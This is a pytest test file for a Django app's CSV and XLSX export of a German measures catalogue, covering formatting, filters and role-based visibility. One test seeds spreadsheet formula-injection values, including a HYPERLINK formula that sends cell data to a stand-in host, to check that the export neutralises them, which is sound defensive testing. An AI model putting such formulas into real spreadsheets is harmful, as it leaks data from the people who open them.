"""The catalogue as CSV (German Excel) and XLSX: what the list shows, one row per Kennzahl."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from measures.models import Measure
from tests import factories

pytestmark = pytest.mark.django_db

HEADER = [
    "Maßnahme",
    "Schwerpunkt",
    "Handlungsfeld",
    "Status",
    "Kommunen",
    "federführender Akteur",
    "Beginn",
    "Ende",
    "Kennzahl",
    "Einheit",
    "Ausgangswert",
    "Zielwert",
    "letzter Messwert",
    "Datum des letzten Messwerts",
    "Zielerreichung in %",
]


def url(district, kind="csv", query="") -> str:
    return reverse(f"measures:export_{kind}", args=[district.slug]) + query


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADER
    return rows[1:]


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return load_workbook(io.BytesIO(response.content))


@pytest.fixture
def catalogue(district, municipality):
    field = factories.FieldOfActionFactory(district=district, name="Sprache")
    actor = factories.ActorFactory(district=district, name="Caritasverband")
    measure = factories.MeasureFactory(
        district=district,
        title="Griffbereit",
        field_of_action=field,
        lead_actor=actor,
        start=datetime.date(2025, 1, 15),
        end=datetime.date(2026, 12, 31),
    )
    measure.municipalities.add(municipality)
    indicator = factories.IndicatorFactory(
        measure=measure,
        name="Erreichte Familien",
        unit="Familien",
        baseline=Decimal("100"),
        target=Decimal("200"),
    )
    factories.MeasurementFactory(
        indicator=indicator, value=Decimal("120"), date=datetime.date(2024, 12, 31)
    )
    factories.MeasurementFactory(
        indicator=indicator, value=Decimal("150.5"), date=datetime.date(2025, 6, 30)
    )
    # A municipal value is newer, but the target refers to the kreisweit figure.
    factories.MeasurementFactory(
        indicator=indicator,
        value=Decimal("999"),
        date=datetime.date(2025, 9, 30),
        municipality=municipality,
    )
    factories.IndicatorFactory(measure=measure, name="Kurse", unit="", baseline=None, target=None)
    plain = factories.MeasureFactory(
        district=district, title="Sprachcafé", status=Measure.Status.PLANNED
    )
    return {"measure": measure, "plain": plain}


def test_csv_follows_german_excel_conventions(client, district, ki_staff, catalogue):
    client.force_login(ki_staff)
    response = client.get(url(district))
    assert response["Content-Disposition"].startswith(
        'attachment; filename="massnahmen-kreis-beispiel-'
    )
    assert b";" in response.content.splitlines()[0]
    rows = csv_rows(response)
    assert rows == [
        [
            "Griffbereit",
            "Integration durch Bildung",
            "Sprache",
            "laufend",
            "Beispielstadt",
            "Caritasverband",
            "15.01.2025",
            "31.12.2026",
            "Erreichte Familien",
            "Familien",
            "100,00",
            "200,00",
            "150,50",
            "30.06.2025",
            "50,5",
        ],
        [
            "Griffbereit",
            "Integration durch Bildung",
            "Sprache",
            "laufend",
            "Beispielstadt",
            "Caritasverband",
            "15.01.2025",
            "31.12.2026",
            "Kurse",
            "",
            "",
            "",
            "",
            "",
            "",
        ],
        # A measure without Kennzahlen gets one row, its Kennzahl columns empty.
        ["Sprachcafé", "Integration durch Bildung", "", "geplant", "kreisweit", "", "", ""]
        + [""] * 7,
    ]


def test_xlsx_has_numbers_dates_and_a_frozen_bold_header(client, district, ki_staff, catalogue):
    client.force_login(ki_staff)
    response = client.get(url(district, "xlsx"))
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = workbook(response)
    assert book.properties.title == "Maßnahmenkatalog – Kreis Beispiel"
    sheet = book.active
    assert sheet.title == "Maßnahmen"
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header == HEADER
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["A"].width >= 30
    first = dict(zip(HEADER, sheet[2], strict=True))
    assert first["Ausgangswert"].value == 100 and first["Ausgangswert"].data_type == "n"
    assert first["letzter Messwert"].value == pytest.approx(150.5)
    assert first["Zielerreichung in %"].value == pytest.approx(50.5)
    assert first["Zielwert"].number_format == "#,##0.00"
    assert first["Beginn"].value == datetime.datetime(2025, 1, 15)
    assert first["Beginn"].is_date
    assert first["Datum des letzten Messwerts"].value == datetime.datetime(2025, 6, 30)
    assert sheet.max_row == 4
    assert sheet.cell(row=4, column=1).value == "Sprachcafé"
    assert sheet.cell(row=4, column=9).value is None


def test_filter_in_the_query_string_narrows_the_export(client, district, ki_staff, catalogue):
    client.force_login(ki_staff)
    rows = csv_rows(client.get(url(district, query="?status=geplant")))
    assert [row[0] for row in rows] == ["Sprachcafé"]
    rows = csv_rows(client.get(url(district, query="?q=griffbereit")))
    assert {row[0] for row in rows} == {"Griffbereit"}
    sheet = workbook(client.get(url(district, "xlsx", "?municipality=kreisweit"))).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Sprachcafé"]
    # The list's order too.
    rows = csv_rows(client.get(url(district, query="?sort=-titel")))
    assert rows[0][0] == "Sprachcafé"


def test_archived_measures_stay_out_unless_asked_for(client, district, ki_staff):
    factories.MeasureFactory(district=district, title="Alt", is_archived=True)
    factories.MeasureFactory(district=district, title="Neu")
    client.force_login(ki_staff)
    assert [row[0] for row in csv_rows(client.get(url(district)))] == ["Neu"]
    rows = csv_rows(client.get(url(district, query="?archive=alle")))
    assert [row[0] for row in rows] == ["Alt", "Neu"]


def test_liaison_exports_only_own_municipality_and_kreisweit(
    client, district, municipality, liaison
):
    other = factories.MunicipalityFactory(district=district, name="Nachbarstadt")
    own = factories.MeasureFactory(district=district, title="Eigene")
    own.municipalities.add(municipality)
    factories.MeasureFactory(district=district, title="Kreisweite")
    foreign = factories.MeasureFactory(district=district, title="Fremde")
    foreign.municipalities.add(other)
    factories.MeasureFactory(district=factories.DistrictFactory(), title="Anderer Kreis")
    client.force_login(liaison)
    rows = csv_rows(client.get(url(district)))
    assert [row[0] for row in rows] == ["Eigene", "Kreisweite"]
    sheet = workbook(client.get(url(district, "xlsx"))).active
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["Eigene", "Kreisweite"]
    # Asking for another municipality by hand does not widen the view.
    rows = csv_rows(client.get(url(district, query=f"?municipality={other.pk}")))
    assert "Fremde" not in [row[0] for row in rows]


def test_formula_injection_is_neutralised(client, district, ki_staff):
    measure = factories.MeasureFactory(
        district=district, title='=HYPERLINK("http://boese.example/?x="&A1;"Klick")'
    )
    factories.IndicatorFactory(
        measure=measure, name="@SUMME(1+1)", unit="+1", baseline=Decimal("-5"), target=Decimal("5")
    )
    factories.MeasureFactory(district=district, title="-2+3")
    client.force_login(ki_staff)
    rows = csv_rows(client.get(url(district)))
    by_title = {row[0]: row for row in rows}
    assert "'-2+3" in by_title
    row = by_title['\'=HYPERLINK("http://boese.example/?x="&A1;"Klick")']
    assert row[8] == "'@SUMME(1+1)"
    assert row[9] == "'+1"
    assert row[10] == "-5,00"  # a real negative number stays a number
    sheet = workbook(client.get(url(district, "xlsx"))).active
    cells = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    hyperlink = cells['=HYPERLINK("http://boese.example/?x="&A1;"Klick")']
    assert sheet.cell(row=hyperlink, column=1).data_type == "s"  # text, not a formula
    assert sheet.cell(row=hyperlink, column=9).data_type == "s"
    assert sheet.cell(row=hyperlink, column=11).value == -5
    assert sheet.cell(row=cells["-2+3"], column=1).data_type == "s"


def _build(district, municipality, count: int) -> None:
    for _ in range(count):
        measure = factories.MeasureFactory(
            district=district,
            field_of_action=factories.FieldOfActionFactory(district=district),
            lead_actor=factories.ActorFactory(district=district),
        )
        measure.municipalities.add(municipality)
        for _ in range(2):
            factories.MeasurementFactory(indicator__measure=measure)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_the_catalogue(
    client, district, municipality, ki_staff, kind
):
    client.force_login(ki_staff)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url(district, kind, "?status=laufend")).status_code == 200
        return len(captured)

    _build(district, municipality, 5)
    few = queries()
    _build(district, municipality, 45)
    assert queries() == few


def test_list_links_the_exports_with_its_filters(client, district, ki_staff):
    client.force_login(ki_staff)
    html = client.get(
        reverse("measures:list", args=[district.slug]) + "?status=laufend&seite=2"
    ).content.decode()
    assert url(district, "csv", "?status=laufend") + '">Als CSV' in html
    assert url(district, "xlsx", "?status=laufend") + '">Als Excel (XLSX)' in html
